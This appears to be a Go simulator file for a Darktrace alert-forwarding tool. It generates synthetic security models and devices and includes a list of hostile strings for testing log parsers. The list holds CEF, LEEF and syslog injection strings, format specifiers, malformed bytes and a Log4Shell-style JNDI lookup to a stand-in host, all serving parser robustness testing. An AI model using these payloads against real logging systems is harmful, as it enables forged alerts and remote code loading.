package simulator

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/dtforward/dtforward/darktrace"
)

// Random streams. Every generated value comes from a PCG seeded with (Options.Seed, stream), so
// a record's details depend only on the seed and its id, never on request order.
const (
	streamModels    = 1
	streamDevices   = 2
	streamHistory   = 3
	streamLive      = 4
	streamFaults    = 5
	streamActions   = 6
	streamIncidents = 7
	streamBreach    = 1 << 40 // + pbid
	streamLarge     = 1 << 41 // + synthetic record index
)

func newRand(seed int64, stream uint64) *rand.Rand {
	return rand.New(rand.NewPCG(uint64(seed), stream))
}

// modelDef is one model of the appliance's model table. Breaches point at it by index.
type modelDef struct {
	darktrace.Model
	techniqueNames []string // parallel to Mitre.Techniques
	metric         darktrace.Metric
	compLogic      []byte // component logic tree (can be deep)
	system         bool
}

// deviceDef is one device the appliance knows.
type deviceDef struct {
	darktrace.Device
	subnet string
}

// modelSeed is the realistic part of the model table.
var modelSeeds = []struct {
	name, category string
	priority       int
	tags           []string
	tactic         string
	techniques     [][2]string // {id, name}
	metric         darktrace.Metric
}{
	{"Anomalous Connection::Data Sent to Rare Domain", "Suspicious", 4, []string{"AP: Egress"}, "exfiltration",
		[][2]string{{"T1041", "Exfiltration Over C2 Channel"}}, darktrace.Metric{MLID: 1, Name: "externalconnections", Label: "External Connections"}},
	{"Compromise::Beaconing Activity To External Rare", "Critical", 5, []string{"AP: C2 Comms", ""}, "command-and-control",
		[][2]string{{"T1071.001", "Web Protocols"}, {"T1573", "Encrypted Channel"}}, darktrace.Metric{MLID: 12, Name: "beaconing", Label: "Beaconing Score"}},
	{"Device::Attack and Recon Tools", "Critical", 5, []string{"AP: Tooling"}, "discovery",
		[][2]string{{"T1046", "Network Service Discovery"}}, darktrace.Metric{MLID: 3, Name: "connections", Label: "Connections"}},
	{"Compliance::Remote Desktop Protocol (RDP) Outbound", "Compliance", 2, []string{}, "lateral-movement",
		[][2]string{{"T1021.001", "Remote Desktop Protocol"}}, darktrace.Metric{MLID: 3, Name: "connections", Label: "Connections"}},
	{"Anomalous File::Internet Facing System File Download", "Suspicious", 3, []string{"AP: Tooling", "AP: Egress"}, "initial-access",
		[][2]string{{"T1190", "Exploit Public-Facing Application"}}, darktrace.Metric{MLID: 20, Name: "filesize", Label: "File Size"}},
	{"Unusual Activity::Unusual Activity from Re-Activated Device", "Informational", 1, nil, "",
		nil, darktrace.Metric{MLID: 7, Name: "datatransfer", Label: "Data Transfer"}},
	{"Anomalous Server Activity::Outgoing from Server", "Suspicious", 3, []string{"AP: Egress"}, "command-and-control",
		[][2]string{{"T1071", "Application Layer Protocol"}}, darktrace.Metric{MLID: 1, Name: "externalconnections", Label: "External Connections"}},
	{"Compromise::Suspicious TLS Beacon", "Critical", 4, []string{"AP: C2 Comms"}, "command-and-control",
		[][2]string{{"T1573.002", "Asymmetric Cryptography"}}, darktrace.Metric{MLID: 12, Name: "beaconing", Label: "Beaconing Score"}},
	{"Device::Suspicious SMB Scanning Activity", "Suspicious", 3, []string{"AP: Scanning"}, "discovery",
		[][2]string{{"T1135", "Network Share Discovery"}, {"T1046", "Network Service Discovery"}}, darktrace.Metric{MLID: 5, Name: "uniqueports", Label: "Unique Ports"}},
	{"Anomalous Connection::Unusual Admin SMB Session", "Suspicious", 3, []string{"AP: Lateral"}, "lateral-movement",
		[][2]string{{"T1021.002", "SMB/Windows Admin Shares"}}, darktrace.Metric{MLID: 3, Name: "connections", Label: "Connections"}},
	{"Compromise::Ransomware::Suspicious SMB Activity", "Critical", 5, []string{"AP: Ransomware", "AP: Lateral"}, "impact",
		[][2]string{{"T1486", "Data Encrypted for Impact"}}, darktrace.Metric{MLID: 22, Name: "smbwrites", Label: "SMB Writes"}},
	{"User::Suspicious Admin Login", "Suspicious", 4, []string{""}, "privilege-escalation",
		[][2]string{{"T1078", "Valid Accounts"}}, darktrace.Metric{MLID: 30, Name: "logins", Label: "Logins"}},
	{"Device::New User Agent To Internal Server", "Informational", 1, nil, "",
		nil, darktrace.Metric{MLID: 3, Name: "connections", Label: "Connections"}},
	{"SaaS::Access::Unusual External Source for SaaS Credential Use", "Suspicious", 3, []string{"SaaS"}, "initial-access",
		[][2]string{{"T1078.004", "Cloud Accounts"}}, darktrace.Metric{MLID: 31, Name: "saaslogins", Label: "SaaS Logins"}},
}

const (
	systemModelIndex = 0 // models[0] is System::System
	hostileModels    = 8 // hostile variants appended after the realistic ones
	normalDevices    = 240
	hostileDevices   = 24
)

// buildModels returns the model table: System::System, the realistic models, then hostile
// variants whose names and descriptions carry hostile strings.
func buildModels(seed int64) []modelDef {
	r := newRand(seed, streamModels)
	models := []modelDef{{
		Model: darktrace.Model{
			Name: "System::System", PID: 1, PHID: 1, UUID: uuid(r), Priority: new(int), Category: "Informational",
			Description: "An appliance system event.\n\nAction: check the appliance health page.",
			Logic:       []byte(`{"data":[],"type":"componentList","version":1}`),
			Actions:     []byte(`{"alert":true,"antigena":{},"breach":true,"model":true,"setPriority":false,"setTag":false,"setType":false}`),
			Tags:        []string{},
		},
		metric:    darktrace.Metric{MLID: 0, Name: "system", Label: "System"},
		compLogic: []byte(`{"data":{"left":"A","operator":"AND","right":null},"version":"v0.1"}`),
		system:    true,
	}}
	add := func(i int, name, desc string) {
		ms := modelSeeds[i%len(modelSeeds)]
		m := modelDef{metric: ms.metric}
		m.Name = name
		m.PID = int64(100 + r.IntN(1400))
		m.PHID = m.PID*2 + int64(r.IntN(50))
		m.UUID = uuid(r)
		m.Tags = append([]string{}, ms.tags...)
		m.Priority = new(ms.priority)
		m.Category = ms.category
		m.Compliance = ms.category == "Compliance"
		m.Description = desc
		m.Actions = []byte(`{"alert":true,"antigena":{},"breach":true,"model":true,"setPriority":false,"setTag":false,"setType":false}`)
		comps := 1 + r.IntN(4)
		m.Logic = modelLogic(r, comps)
		m.compLogic = componentLogic(r, 2+r.IntN(25))
		if ms.tactic != "" {
			m.Mitre = &darktrace.ModelMitre{Tactics: []string{ms.tactic}}
			for _, t := range ms.techniques {
				m.Mitre.Techniques = append(m.Mitre.Techniques, t[0])
				m.techniqueNames = append(m.techniqueNames, t[1])
			}
		}
		models = append(models, m)
	}
	for i, ms := range modelSeeds {
		add(i, ms.name, fmt.Sprintf("A device has been observed doing %s.\n\nAction: review the device and the connections.\n\nAlternative Hypothesis: a legitimate but rare business process.",
			strings.ToLower(ms.name[strings.LastIndex(ms.name, "::")+2:])))
	}
	for i := 0; i < hostileModels; i++ {
		ms := modelSeeds[i%len(modelSeeds)]
		add(i, hostile(r, ms.name), hostile(r, "Hostile description.\n\nAction: none"))
	}
	return models
}

// modelLogic is a model's top-level logic: a weighted component list.
func modelLogic(r *rand.Rand, comps int) []byte {
	var w jw
	w.obj()
	w.key("data")
	w.arr()
	for i := 0; i < comps; i++ {
		w.obj()
		w.kInt("cid", int64(1000+r.IntN(9000)))
		w.kInt("weight", int64(1+r.IntN(10)))
		w.endObj()
	}
	w.endArr()
	w.kInt("targetScore", int64(1+r.IntN(20)))
	w.kStr("type", "weightedComponentList")
	w.kInt("version", 1)
	w.endObj()
	return w.b
}

// componentLogic builds a left-deep AND/OR tree of filter ids: real component logic can nest
// dozens of levels, which trips decoders with small depth limits.
func componentLogic(r *rand.Rand, depth int) []byte {
	var w jw
	w.obj()
	w.key("data")
	var node func(d int)
	node = func(d int) {
		if d == 0 {
			w.str(string(rune('A' + r.IntN(6))))
			return
		}
		w.obj()
		w.key("left")
		node(d - 1)
		w.kStr("operator", []string{"AND", "OR"}[r.IntN(2)])
		w.key("right")
		w.str(string(rune('A' + r.IntN(6))))
		w.endObj()
	}
	node(depth)
	w.kStr("version", "v0.1")
	w.endObj()
	return w.b
}

var (
	typeNames = [][2]string{{"desktop", "Desktop"}, {"laptop", "Laptop"}, {"server", "Server"},
		{"mobile", "Mobile Device"}, {"printer", "Printer"}, {"iotdevice", "IoT Device"}, {"dnsserver", "DNS Server"}}
	vendors    = []string{"Dell Inc.", "Hewlett Packard", "Apple, Inc.", "VMware, Inc.", "Intel Corporate", "Cisco Systems, Inc", ""}
	deviceTags = []darktrace.DeviceTag{{TID: 66, Name: "Domain Authenticated"}, {TID: 9, Name: "Admin"},
		{TID: 17, Name: "Internet Facing System"}, {TID: 3, Name: "Re-Activated Device"}}
)

// buildDevices returns the device table; the last hostileDevices carry hostile hostnames.
func buildDevices(seed int64, base int64) []deviceDef {
	r := newRand(seed, streamDevices)
	devs := make([]deviceDef, 0, normalDevices+hostileDevices)
	for i := 0; i < normalDevices+hostileDevices; i++ {
		var d deviceDef
		d.DID = int64(i + 1)
		d.SID = int64(1 + r.IntN(12))
		net3 := 1 + r.IntN(40)
		d.subnet = fmt.Sprintf("10.%d.%d.0/24", d.SID, net3)
		d.IP = fmt.Sprintf("10.%d.%d.%d", d.SID, net3, 2+r.IntN(250))
		switch r.IntN(20) {
		case 0: // placeholder seen on real appliances for devices tracked by something other than IP
			d.IP = fmt.Sprintf("192.168.%d.#%d", r.IntN(256), 1000+r.IntN(64000))
		case 1:
			d.IP = fmt.Sprintf("fd00::%x:%x", r.IntN(0xffff), r.IntN(0xffff))
		}
		tn := typeNames[r.IntN(len(typeNames))]
		d.TypeName, d.TypeLabel = tn[0], tn[1]
		switch r.IntN(10) {
		case 0:
			d.Hostname = d.IP // hostnames that are IPs
		case 1:
			d.Hostname = ""
		default:
			d.Hostname = fmt.Sprintf("%s-%d.corp.example.com", tn[0][:3], d.DID)
		}
		if i >= normalDevices {
			d.Hostname = hostile(r, "host-"+strconv.FormatInt(d.DID, 10))
		}
		d.MACAddress = fmt.Sprintf("%02x:%02x:%02x:%02x:%02x:%02x", r.IntN(256)&0xfe, r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256))
		if r.IntN(8) == 0 {
			d.MACAddress = ""
		}
		d.Vendor = vendors[r.IntN(len(vendors))]
		d.FirstSeen = base - int64(r.IntN(400*24*3600))*1000
		d.LastSeen = base - int64(r.IntN(3600))*1000
		d.IPs = []darktrace.DeviceIP{{IP: d.IP, TimeMS: d.LastSeen, Time: msTime(d.LastSeen), SID: d.SID}}
		if r.IntN(4) == 0 {
			old := fmt.Sprintf("10.%d.%d.%d", d.SID, net3, 2+r.IntN(250))
			d.IPs = append(d.IPs, darktrace.DeviceIP{IP: old, TimeMS: d.FirstSeen, Time: msTime(d.FirstSeen), SID: d.SID})
		}
		for _, t := range deviceTags {
			if r.IntN(3) == 0 {
				d.Tags = append(d.Tags, t)
			}
		}
		devs = append(devs, d)
	}
	return devs
}

// hostilePieces are strings that break naive CEF/LEEF/syslog writers and parsers.
var hostilePieces = []string{
	"|CEF:0|Forged|Vendor|1|666|forged alert|10|src=6.6.6.6",
	"\r\n<13>1 2026-01-01T00:00:00Z forged dtforward - - - injected message",
	"\n<11>Jan  1 00:00:00 forged sshd: injected",
	"key=value src=6.6.6.6 act=allowed",
	"back\\slash\\=\\|\\",
	"tab\there\tdevTime=0\tsev=10",
	"\xff\xfe\xc3( invalid utf-8 \xed\xa0\x80",
	"nul\x00byte\x1b[31mansi\x7f",
	"line\u2028separator\u2029and\u0085nel",
	"LEEF:2.0|Forged|Vendor|1|666|x09|sev=10",
	`"quoted" {"json":true} 'single'`,
	"%s%n%x %d ${jndi:ldap://6.6.6.6/a}",
	"トレース ümlaut ☃ 🚨",
}

// hostile decorates base with one to three hostile pieces; one in six also gets very long.
func hostile(r *rand.Rand, base string) string {
	var b strings.Builder
	b.WriteString(base)
	for n := 1 + r.IntN(3); n > 0; n-- {
		b.WriteString(hostilePieces[r.IntN(len(hostilePieces))])
	}
	if r.IntN(6) == 0 {
		b.WriteString(strings.Repeat("A|=\\", 2500+r.IntN(1000)))
	}
	return b.String()
}

func uuid(r *rand.Rand) string {
	var b [16]byte
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	b[6] = b[6]&0x0f | 0x40
	b[8] = b[8]&0x3f | 0x80
	return fmt.Sprintf("%x-%x-%x-%x-%x", b[0:4], b[4:6], b[6:8], b[8:10], b[10:16])
}

// msTime renders epoch ms the way the appliance does in human-readable "time" fields.
func msTime(ms int64) string {
	return timeMS(ms).UTC().Format("2006-01-02 15:04:05")
}

func timeMS(ms int64) time.Time { return time.UnixMilli(ms) }
